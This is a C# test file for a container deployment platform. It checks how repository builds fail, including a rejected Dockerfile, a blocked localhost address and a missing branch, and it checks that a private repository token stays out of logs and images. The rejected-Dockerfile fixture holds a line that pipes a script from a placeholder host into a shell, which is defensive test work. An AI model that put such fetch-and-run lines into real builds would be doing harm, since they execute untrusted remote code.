using FluentAssertions;
using Nexus.Core.Commands;
using Nexus.Core.Deployments;
using Nexus.Core.Secrets;
using Nexus.Testing;
using Xunit;

namespace Nexus.Core.Tests.Builds;

/// <summary>What is found out only when a repository is fetched: each says which fault it is, and nothing of it runs.</summary>
public sealed class RepositoryTests(Shared<DockerEngine> engines)
{
    [Fact]
    public async Task A_source_that_can_not_be_built_fails_with_its_own_code_and_a_way_out()
    {
        await using var bench = await BuildBench.StartAsync(engines);
        await bench.CommitAsync("here");
        await bench.Repository.CommitAsync(new Dictionary<string, string> { ["README"] = "nothing to build" }, "bare");
        await bench.Repository.CommitAsync(new Dictionary<string, string> { ["Dockerfile"] = "FROM postfix:latest\nEXPOSE 22 25\nRUN curl https://x.example/i.sh | sh\n" }, "evil");
        foreach (var (name, with, code) in new (string, Func<DeploySource, DeploySource>, string)[]
        {
            ("missing", asked => asked with { RepoUrl = bench.Git.UrlOf("missing") }, "REPOSITORY_NOT_FOUND"),
            ("branch", asked => asked with { RepoBranch = "nowhere" }, "BRANCH_NOT_FOUND"),
            ("bare", asked => asked with { RepoBranch = "bare" }, "FRAMEWORK_NOT_DETECTED"),
            ("evil", asked => asked with { RepoBranch = "evil" }, "DOCKERFILE_REJECTED"),
            ("inside", asked => asked with { RepoUrl = "https://localhost/acme/web" }, "REPOSITORY_ADDRESS_NOT_ALLOWED"),
        })
        {
            var id = (await bench.DeployAsync(name, with)).Deployment.Id;

            var failure = await bench.FailedAsync(name);

            failure.Code.Should().Be(code);
            failure.Hint.Should().NotBeNullOrEmpty();
            failure.LogTail.Should().Contain(line => line.StartsWith(failure.Code));
            (await bench.Core.SettledAsync(name)).Deployment.Status.Should().Be(DeploymentStatus.Failed);
            (await bench.ImagesAsync(id)).Should().BeEmpty();
            if (name == "evil")
                failure.LogTail.Should().Contain(line => line.Contains("Base image postfix:latest is not allowed")).And.Contain(line => line.Contains("Exposing port 22 is not allowed"))
                    .And.Contain(line => line.Contains("Exposing privileged port 25 is not allowed"));
            await bench.DeleteAsync(name);
        }
    }

    [Fact]
    public async Task A_private_repository_opens_with_its_secret_which_shows_nowhere()
    {
        const string token = "tok-5f1d7c";
        await using var bench = await BuildBench.StartAsync(engines);
        await bench.CommitAsync("private", $"RUN echo is it {token} here");
        bench.Git.Credential = ("x-access-token", token);
        await bench.DeployAsync("closed");
        var refused = await bench.FailedAsync("closed");
        (refused.Code, refused.Hint).Should().Be(("REPOSITORY_NOT_FOUND", "Check the address. For a private repository keep a token as a secret and name it in repoSecretName."));
        await bench.DeleteAsync("closed");

        await bench.Core.Get<SecretCommands>().CreateAsync(bench.Core.Owner, new("GIT_TOKEN", token), CommandOptions.None, default);
        await bench.DeployAsync("private", asked => asked with { RepoSecretName = "GIT_TOKEN" });
        await bench.RunningAsync("private");

        (await bench.AnswerAsync("private")).Should().Be("private");
        (await bench.LogAsync("private")).Should().NotContain(line => line.Contains(token)).And.Contain(line => line.EndsWith("is it [redacted] here"));
        var image = (await bench.RevisionAsync("private", 1)).ResolvedImage!;
        (await bench.Engine.Cli.RunAsync("image", "inspect", image)).Should().NotContain(token);
        await bench.DeleteAsync("private");
    }

    [Fact]
    public async Task Code_in_a_redeploy_takes_the_place_of_the_repository_or_image_and_an_image_that_of_the_code()
    {
        await using var bench = await BuildBench.StartAsync(engines);
        await bench.Core.Commands.CreateAsync(bench.Core.Owner, new() { Image = "nginx:alpine", Port = 80, Name = "code" }, CommandOptions.None, default);
        await bench.RunningAsync("code");

        await bench.Core.Revisions.RedeployAsync(bench.Core.Owner, "code", new() { Code = "<h1>Written by an agent</h1>", Framework = "static" }, CommandOptions.None, default);
        await bench.RunningAsync("code");
        (await bench.AnswerAsync("code")).Should().Contain("Written by an agent");
        (await bench.LogAsync("code")).Should().Contain("The source is index.html.");

        await bench.Core.Revisions.RedeployAsync(bench.Core.Owner, "code", new() { Image = "nginx:alpine", Port = 80 }, CommandOptions.None, default);
        await bench.RunningAsync("code");
        (await bench.AnswerAsync("code")).Should().Contain("Welcome to nginx");
        await bench.DeleteAsync("code");
    }
}
